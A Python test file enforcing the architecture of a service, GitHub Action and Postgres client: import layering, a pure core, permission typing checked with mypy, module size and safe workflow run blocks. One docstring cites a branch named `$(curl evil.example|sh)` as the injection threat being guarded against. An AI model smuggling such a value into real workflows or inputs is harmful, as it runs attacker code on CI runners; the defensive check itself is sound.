"""The shape of the code: who may import what, and how large things may grow."""

import ast
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path

ROOT = Path(__file__).parent.parent
APP = sorted((ROOT / "app").rglob("*.py"))
ACTION = sorted((ROOT / "action").rglob("*.py"))
PGWIRE = sorted((ROOT / "pgwire").rglob("*.py"))
TESTS = sorted((ROOT / "tests").rglob("*.py"))
WORKFLOWS = [ROOT / "action.yml", *sorted((ROOT / ".github").rglob("*.yml"))]

MAX_LINES = 400

# The core has no clock, network, database, files, environment or randomness.
PURE = {
    "__future__",  # of files that the Action has word for word
    "annotated_types",  # constraints of fields, as values: others check them
    "base64",
    "collections",
    "dataclasses",
    "datetime",
    "enum",
    "functools",
    "hashlib",
    "ipaddress",
    "itertools",
    "json",
    "math",
    "operator",
    "re",
    "string",
    "textwrap",
    "typing",
    "unicodedata",
    "urllib.parse",
}
IMPURE_CALLS = {"open", "input", "print", "now", "utcnow", "today"}

# Third-party packages that belong to one place each.
HOMES = {
    "authlib": ("app/web/auth",),
    "flask": ("app/web",),
    "flask_openapi3": ("app/web",),
    "procrastinate": ("app/jobs",),
    "github": ("app/github",),
    "jwt": ("app/github",),
    "psycopg": ("app/postgres", "app/store", "app/jobs"),
    "psycopg_pool": ("app/postgres", "app/store", "app/jobs"),
}

# What the rooms below the entries may import of ours. Adapters never import each other. Operations
# call the store directly, which knows nothing of them; what is outside they reach through ports.
FLOORS = {
    "app/core": ("app.core",),
    "app/store": ("app.core", "app.patience", "app.store", "app.operations.ports"),
    "app/operations": ("app.core", "app.patience", "app.store", "app.operations"),
    "app/postgres": ("app.core", "app.patience", "app.operations", "app.postgres", "pgwire"),
    "app/github": ("app.core", "app.patience", "app.operations", "app.github"),
}

OURS = ("app", "action", "demo", "pgwire")

ENVIRONMENT_READERS = {"app/process_environment.py", "action/inputs.py"}

# Where a command begins that needs what others do without: importing it takes longer than they do.
# And where everything begins: how things are imported is settled first.
LATE_IMPORTERS = {
    "app/bootstrap.py",
    "app/cli/__init__.py",
    "app/cli/health.py",
    "app/cli/login.py",
    "app/cli/migrate.py",
    "app/cli/processes.py",
    "app/cli/session.py",
    "app/cli/target.py",
}
VAGUE_NAMES = {"utils", "helpers", "common", "manager", "base", "misc"}


def name_of(path: Path) -> str:
    return path.relative_to(ROOT).as_posix()


def of(*rooms: str) -> list[Path]:
    return [path for path in APP + ACTION + PGWIRE if name_of(path).startswith(tuple(rooms))]


@cache
def tree_of(path: Path) -> ast.Module:
    return ast.parse(path.read_text(), filename=str(path))


def imports_of(path: Path) -> Iterator[str]:
    """Every imported module by its full name; `from a import b` gives `a.b` too."""
    for node in ast.walk(tree_of(path)):
        if isinstance(node, ast.Import):
            yield from (alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom):
            assert node.level == 0, f"{name_of(path)} imports relatively"
            assert node.module
            yield node.module
            yield from (f"{node.module}.{alias.name}" for alias in node.names)


def is_within(module: str, packages: tuple[str, ...]) -> bool:
    return any(module == package or module.startswith(f"{package}.") for package in packages)


def each(paths: list[Path]) -> Callable[[Callable[[Path], None]], Callable[[], None]]:
    """One test for all of them, which names those that fail: there are thousands."""

    def decorate(check: Callable[[Path], None]) -> Callable[[], None]:
        def test() -> None:
            wrong = {}
            for path in paths:
                try:
                    check(path)
                except AssertionError as error:
                    wrong[name_of(path)] = str(error)
            assert not wrong

        test.__name__, test.__doc__ = check.__name__, check.__doc__
        return test

    return decorate


def test_there_is_code_to_look_at() -> None:
    assert len(of("app/core/")) > 10
    assert len(ACTION) > 10


@each(of(*(f"{room}/" for room in FLOORS)))
def test_imports_run_one_way(path: Path) -> None:
    [allowed] = [below for room, below in FLOORS.items() if name_of(path).startswith(f"{room}/")]

    ours = {module for module in imports_of(path) if is_within(module, OURS)}

    assert {module for module in ours if not is_within(module, allowed)} <= {"app"}


@each(of("app/core/"))
def test_the_core_is_pure(path: Path) -> None:
    foreign = {module for module in imports_of(path) if not is_within(module, ("app",))}
    calls = {
        node.func.attr if isinstance(node.func, ast.Attribute) else node.func.id
        for node in ast.walk(tree_of(path))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute | ast.Name)
    }

    assert {module for module in foreign if not is_within(module, tuple(PURE))} <= {"urllib"}
    assert not calls & IMPURE_CALLS


@each(of("app/operations/"))
def test_operations_know_no_technology(path: Path) -> None:
    roots = {module.partition(".")[0] for module in imports_of(path)}

    assert roots - sys.stdlib_module_names == roots & {"app"}


def test_packages_of_operations_stand_one_above_the_other() -> None:
    """Each may import those before it: a circle would have to be read as one."""
    order = ["ports", "checks", "databases", "runs", "administration", "pull_requests"]
    folder = "app/operations/"
    assert {path.parent.name for path in of(folder)} == {"operations", *order}

    upward = {
        (name_of(path), module)
        for path in of(*(f"{folder}{package}/" for package in order))
        for module in imports_of(path)
        for later in order[order.index(path.parent.name) + 1 :]
        if is_within(module, (f"app.operations.{later}",))
    }

    assert not upward


@each([path for path in APP + TESTS if name_of(path) != "app/operations/access.py"])
def test_a_permission_is_looked_up_and_never_made_up(path: Path) -> None:
    """What acts for a person takes a `Permitted`: it says that somebody asked."""
    if "Permitted" not in path.read_text():
        return
    calls = [node for node in ast.walk(tree_of(path)) if isinstance(node, ast.Call)]
    made = [node for node in calls if ast.unparse(node.func).split("[")[0].endswith("Permitted")]
    cast = [
        node
        for node in calls
        if ast.unparse(node.func).endswith("cast") and "Permitted" in ast.unparse(node.args[0])
    ]
    changed = [
        node
        for node in calls
        if ast.unparse(node.func).endswith("replace")
        and {keyword.arg for keyword in node.keywords} & {"subject", "act"}
    ]

    assert not [node.lineno for node in (*made, *cast, *changed)]


# Each line that acts, with whether mypy lets it.
ACTING = """\
from app.core.databases import Database
from app.core.people import Change, Connect, Lose, See
from app.operations.access import Permitted
from app.operations.administration import databases
from app.operations.services import Services

def act(services: Services, row: Database, seen: Permitted[Database, See]) -> None:
    databases.fix(services, row)  # refused
    databases.fix(services, seen)  # refused
    databases.reset(services, row)  # refused

def change(services: Services, found: Permitted[Database, Change]) -> None:
    databases.fix(services, found)
    databases.reset(services, found)  # refused

def lose(services: Services, found: Permitted[Database, Lose]) -> None:
    databases.fix(services, found)
    databases.reset(services, found)

def connect(services: Services, found: Permitted[Database, Connect]) -> None:
    databases.fix(services, found)
    databases.drop(services, found)  # refused
"""


def test_mypy_refuses_to_act_on_what_was_not_looked_up_for_it(tmp_path: Path) -> None:
    """As in `script/test`, whose run before has left nearly all of it to be read from the cache."""
    file = tmp_path / "acting.py"
    file.write_text(ACTING)

    checked = subprocess.run(
        [sys.executable, "-m", "mypy", "--no-error-summary", file],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )

    lines = enumerate(ACTING.splitlines(), start=1)
    refused = [number for number, line in lines if line.endswith("# refused")]
    found = re.findall(r"acting.py:(\d+): error: .*\[arg-type\]$", checked.stdout, re.MULTILINE)
    assert [int(number) for number in found] == refused, checked.stdout + checked.stderr
    assert len(checked.stdout.splitlines()) == len(refused)


@each(APP)
def test_a_third_party_package_stays_in_its_home(path: Path) -> None:
    roots = {module.partition(".")[0] for module in imports_of(path)}

    strays = {root for root in roots & HOMES.keys() if not name_of(path).startswith(HOMES[root])}

    assert not strays


@each(APP)
def test_the_service_never_imports_the_action_or_the_demo(path: Path) -> None:
    assert not [name for name in imports_of(path) if is_within(name, ("action", "demo", "tests"))]


@each(ACTION)
def test_the_action_needs_nothing_but_python(path: Path) -> None:
    roots = {module.partition(".")[0] for module in imports_of(path)}

    assert roots <= sys.stdlib_module_names | {"action", "pgwire"}


@each(PGWIRE)
def test_the_small_client_stands_alone(path: Path) -> None:
    roots = {module.partition(".")[0] for module in imports_of(path)}

    assert roots <= sys.stdlib_module_names | {"pgwire"}


@each(APP)
def test_the_small_client_is_for_tenants_servers(path: Path) -> None:
    is_home = name_of(path).startswith("app/postgres/")

    assert is_home or not [name for name in imports_of(path) if is_within(name, ("pgwire",))]


@each(ACTION + PGWIRE)
def test_the_action_reads_as_python_3_9(path: Path) -> None:
    tree = ast.parse(path.read_text(), feature_version=(3, 9))

    options = {
        keyword.arg
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and getattr(node.func, "id", "") in ("dataclass", "zip")
        for keyword in node.keywords
    }
    assert not options & {"slots", "kw_only", "strict"}


@each([path for path in APP + ACTION + PGWIRE if name_of(path) not in LATE_IMPORTERS])
def test_imports_stand_at_the_top(path: Path) -> None:
    functions = [
        node
        for node in ast.walk(tree_of(path))
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)
    ]

    assert not [
        node.lineno
        for function in functions
        for node in ast.walk(function)
        if isinstance(node, ast.Import | ast.ImportFrom)
    ]


@each([path for path in APP + ACTION + PGWIRE if name_of(path) not in ENVIRONMENT_READERS])
def test_the_environment_is_read_in_one_place(path: Path) -> None:
    names = {
        node.attr if isinstance(node, ast.Attribute) else node.id
        for node in ast.walk(tree_of(path))
        if isinstance(node, ast.Attribute | ast.Name)
    }
    reads = {"os.environ", "os.getenv", "os.environb"} & set(imports_of(path))
    if "os" in imports_of(path):
        reads |= {"environ", "getenv", "environb"} & names

    assert not reads


@each(APP + ACTION + PGWIRE)
def test_a_module_stays_small_and_says_what_it_is(path: Path) -> None:
    text = path.read_text()

    assert len(text.splitlines()) <= MAX_LINES
    assert ast.get_docstring(ast.parse(text))
    assert path.stem not in VAGUE_NAMES


def run_blocks(text: str) -> Iterator[str]:
    """The scripts of every `run:` in a workflow or action, on one line or indented below it."""
    lines = text.splitlines()
    for number, line in enumerate(lines):
        if not (found := re.match(r"( *)(- )?run:(.*)", line)):
            continue
        indent = len(found[1]) + len(found[2] or "")
        below = []
        for later in lines[number + 1 :]:
            if later.strip() and len(later) - len(later.lstrip()) <= indent:
                break
            below.append(later)
        yield "\n".join([found[3], *below])


def test_run_blocks_are_found_in_both_forms() -> None:
    text = "steps:\n  - run: one\n  - name: x\n    run: |\n      two\n\n      three\n    env: no"

    assert [block.split() for block in run_blocks(text)] == [["one"], ["|", "two", "three"]]


@each(WORKFLOWS)
def test_no_expression_is_pasted_into_a_script(path: Path) -> None:
    """A branch may be called `$(curl evil.example|sh)`: expressions reach scripts as variables."""
    assert not [block for block in run_blocks(path.read_text()) if "${{" in block]


def test_the_action_itself_runs_a_script_of_ours() -> None:
    assert list(run_blocks((ROOT / "action.yml").read_text()))


def test_each_migration_of_the_state_has_a_number_of_its_own() -> None:
    """They are applied by name: two of one number would run in the order of their words."""
    numbers = [path.name[:4] for path in sorted((ROOT / "app/store/schema_changes").glob("*.sql"))]

    assert numbers == [f"{number:04}" for number in range(1, len(numbers) + 1)]
